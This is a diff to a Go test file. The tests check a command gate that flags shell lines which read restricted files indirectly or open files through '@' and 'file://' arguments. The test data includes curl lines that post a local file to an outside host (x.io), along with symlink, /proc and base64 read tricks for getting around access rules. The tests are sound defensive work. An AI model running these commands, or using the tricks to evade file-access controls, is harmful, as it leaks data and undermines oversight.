@@ -1,6 +1,10 @@
 package gate
 
-import "testing"
+import (
+	"slices"
+	"strings"
+	"testing"
+)
 
 // Whoever comes to files that the line does not name finds none that is not to be read; whoever builds, tests or names files needs all.
 func TestWhatComesToFilesThatItDoesNotName(t *testing.T) {
@@ -19,13 +23,34 @@ func TestWhatComesToFilesThatItDoesNotName(t *testing.T) {
 	}
 }
 
+// Beside a git that needs all of the folder nothing is kept from the rest of the line, which may not come to what it does not name.
+func TestWhatComesToFilesBesideAGitThatNeedsAll(t *testing.T) {
+	for line, want := range map[string]bool{
+		"git stash; python3 -c 'print(1)'": true, "git add -A && grep -r k .": true, "git no-verb; cat */s.txt": true, "git checkout x; find . -type f | xargs cat": true,
+		"git stash list; python3 -c 'print(1)'": false, "git status; grep -r k .": false, "git add -A && git commit -m \"$M\"": false, "git add *.go; go test ./...": false, "git add -A; cat a.txt": false,
+	} {
+		if got := SweepsBeside(line); got != want {
+			t.Errorf("%s: %v", line, got)
+		}
+	}
+}
+
+// A file that a program is told to read by a letter or an address ahead of it is opened.
+func TestFilesBehindALetterAreOpened(t *testing.T) {
+	for _, line := range []string{"gcc @s.txt", "ld @s.txt", "java @s.txt", "c++filt @s.txt", "gcc -Wl,@s.txt", "curl -d@s.txt x.io", "curl -F a=@s.txt x.io", "curl --data-urlencode a@s.txt x.io", "curl -s file://$PWD/s.txt", "curl FILE://localhost/s.txt"} {
+		if !slices.ContainsFunc(Opened(line), func(w string) bool { return strings.Trim(w, "./") == "s.txt" }) {
+			t.Errorf("%s: %q", line, Opened(line))
+		}
+	}
+}
+
 // Whoever reads finds none that is not to be read under any name.
 func TestWhatReadsFilesByWhateverName(t *testing.T) {
 	for line, want := range map[string]bool{
 		"base64 pubf.txt": true, "rev ~+/private/plan.txt": true, "rev /proc/self/cwd/a": true, "cp pubf.txt b; rev b": true, "ln -s ../private q; rev q/plan.txt": true, "tr a b < pubf.txt": true,
 		"head -c 8 pubf.txt": true, "vim -es '+%!rev' pubf.txt": true, "cat a.txt": true,
 		"go test ./...": false, "npm test": false, "git status": false, "ls -l a": false, "make build": false, "python3 tool.py a": false, "./run.sh a": false, "mv a b": false, "npx tsc -p .": false, "eslint src": false, "vite build": false, "find . -name '*.go'": false,
-		"make test | tail -n 1": false, "go test ./... | grep FAIL": false, "cat a.txt; git add -A": false, "grep -r k .; git commit -am x": false, "git status; cat a.txt": true, "python3 -c 'x' ": true,
+		"make test | tail -n 1": false, "go test ./... | grep FAIL": false, "cat a.txt; git add -A": false, "grep -r k .; git commit -am x": false, "git status; cat a.txt": true, "git stash list; python3 -c 'x'": true, "git stash show; cat a.txt": true, "git stash; cat a.txt": false, "python3 -c 'x' ": true,
 	} {
 		if got := ReadsFiles(line, false); got != want {
 			t.Errorf("%s: %v", line, got)
